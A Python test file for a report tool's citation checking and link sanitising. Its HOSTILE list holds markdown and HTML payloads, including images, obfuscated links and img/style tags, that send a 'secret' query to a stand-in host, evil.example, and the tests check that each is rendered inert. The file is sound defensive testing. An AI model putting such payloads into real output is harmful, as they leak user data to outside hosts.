"""Citations: what cites a real source stays, what cites nothing goes."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chargehand.contracts import Source
from workflows.rules.citations import cited_numbers, number_refs
from workflows.rules.inert_links import inert_links
from workflows.rules.report_content import check_citations, keep_cited

SOURCES = tuple(Source(ref=ref) for ref in ("a.md#L1", "b.pdf#page=2", "https://c.example/[x]"))
PIECES = st.sampled_from(
    ["[S1]", "[S2]", "[S3]", "[S4]", "[S0]", "[S", "]", "S1", " text ", "[", "[S99999999999]", "[s1]"]
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)


def test_a_citation_of_nothing_is_removed() -> None:
    """A number that no source has disappears and leaves a whole sentence; other text stays unchanged."""
    cases = [
        ("It is so [S1][S3].", "It is so [S1][S3]."),
        ("It is so [S4].", "It is so."),
        ("It is so [S0].", "It is so."),
        ("It is so [S01].", "It is so [S1]."),
        ("It is so [S1, S2].", "It is so [S1][S2]."),
        ("It is so [S1.2; S9].", "It is so [S1.2]."),
        ("All are known [S1], [S2] and [S9].", "All are known [S1], [S2]."),
        ("All are known [S9], [S1], [S8] and [S2].", "All are known [S1] and [S2]."),
        ("It is so ([S9]).", "It is so."),
        ("[S9] says so. [S9] It is so.", "An unnamed source says so. It is so."),
        ("According to [S9], it is so.", "According to an unnamed source, it is so."),
        ("It [S9] is so.", "It is so."),
        ("It is so [s1] (S1) S2.", "It is so [s1] (S1) S2."),
        (f"It is so [S{'9' * 5_000}].", "It is so."),
        ("It is so [S٣].", "It is so [S٣]."),
    ]
    for text, checked in cases:
        assert check_citations(text, SOURCES) == checked


def test_sources_are_numbered_as_the_text_cites_them() -> None:
    """Only cited sources are listed, and the first cited is number one."""
    text, sources = keep_cited("Late [S3], early [S1], late again [S3].", SOURCES)

    assert text == "Late [S1], early [S2], late again [S1]."
    assert sources == (SOURCES[2], SOURCES[0])


@given(text=TEXTS)
def test_every_citation_of_a_report_has_its_source(text: str) -> None:
    """After the check, the numbers in a text are exactly 1 to n in order, and n is the number of sources."""
    answer, sources = keep_cited(check_citations(text, SOURCES), SOURCES)

    assert cited_numbers(answer) == list(range(1, len(sources) + 1))


@given(text=TEXTS)
def test_renumbering_keeps_what_is_cited_where(text: str) -> None:
    """Each citation names the same source before and after, in the same place."""
    checked = check_citations(text, SOURCES)

    answer, sources = keep_cited(checked, SOURCES)

    before = [SOURCES[int(number) - 1] for number in re.findall(r"\[S(\d+)\]", checked)]
    after = [sources[int(number) - 1] for number in re.findall(r"\[S(\d+)\]", answer)]
    assert after == before


def test_refs_become_numbers() -> None:
    """Exactly the refs in brackets become citations."""
    cases = [
        ("So [a.md#L1], and [https://c.example/[x]].", "So [S1], and [S3]."),  # refs, brackets in them too
        ("So [a.md#L1-L9] and [a.md].", "So [a.md#L1-L9] and [a.md]."),  # no part of another ref
        ("So [S2], says [b.pdf#page=2].", "So, says [S2]."),  # an agent's own numbers cite nothing
        ("So (a.md#L1).", "So (a.md#L1)."),  # no brackets, no citation
    ]
    for text, numbered in cases:
        assert number_refs(text, {source.ref: number for number, source in enumerate(SOURCES, start=1)}) == numbered


def test_a_ref_that_looks_like_a_number_is_itself() -> None:
    """A source called S2 is cited by its own number, and replaced only once; without sources nothing is cited."""
    assert number_refs("[S2] [x]", {"x": 2, "S2": 1}) == "[S1] [S2]"
    assert number_refs("So [S1], and [a.md#L1].", {}) == "So, and [a.md#L1]."


READ = "https://read.example/a_(b)"
EVIL = "https://evil.example/?q=secret"
HOSTILE = (
    f"![x]({EVIL})",
    f"[x](<{EVIL}>)",
    f"[x](\n  {EVIL} 'title')",
    f"[![x]({EVIL})]({READ})",
    f"[x]({READ}.evil.example)",
    f"[x]({READ}{EVIL})",
    "[x](//evil.example/a)",
    "[x](https&#58;//evil.example/a)",
    "[x](\\/\\/evil.example/a)",
    f"![x][a]\n\n[a]: {EVIL}",
    "![x][a]\n\n> [a]:\n> //evil.example/a",
    "![a]\n\n[a]: &#47;/evil.example/a",
    "![a]\n\n[a]: \\//evil.example/a",
    f"<img src={EVIL}>",
    f'<b style="background:url({EVIL})">x</b>',
    f'<img alt="<" src="{EVIL}">',
    f"<a\nhref='{EVIL}'>x</a>",
    f"<img/src={EVIL}>",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_not_read_is_no_link(text: str) -> None:
    """However it is written, a viewer makes no link or picture of it, and shows the whole address."""
    html = MarkdownIt("commonmark").render(inert_links(text, [Source(ref="r", url=READ)]))

    html = re.sub(r'<a href="([^"]*)">\1</a>', r"\1", html)  # what shows its address whole
    assert not re.search(r"<(?:a|img|b)\b[^>]*evil", html)
    assert "evil.example" in html


@pytest.mark.parametrize(
    "text", [f"[x]({READ})", f"[x](<{READ}>)", f'[x]({READ} "t")', "![chart](chart-1.png)", "[S1]", "[x](#S1)", "a < b"]
)
def test_what_was_read_stays_a_link(text: str) -> None:
    """Sources, files of the report and places in it are left as they are."""
    assert inert_links(text, [Source(ref="r", url=READ)]) == text
